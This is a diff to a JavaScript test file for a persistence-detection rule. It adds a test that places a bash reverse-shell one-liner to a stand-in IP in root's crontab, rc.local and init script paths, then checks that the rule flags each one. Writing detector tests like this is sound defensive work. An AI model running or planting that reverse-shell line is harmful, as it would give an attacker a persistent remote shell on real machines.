@@ -10,6 +10,13 @@ describe('rule persistence-content', () => {
       }),
     ).to.deep.equal(['high: it has a connection by the shell itself']);
   });
+  it('finds one where other systems have theirs', () => {
+    for (const path of ['crontabs/root', 'rc.d/rc.local', 'rc.d/init.d/x', 'local.d/x.start'])
+      expect(
+        seenBy(persistenceContent, { [`[root]/etc/${path}`]: 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1\n' }),
+        path,
+      ).to.have.length(1);
+  });
   it('leaves jobs of packages and comments alone', () => {
     expect(
       seenBy(persistenceContent, {
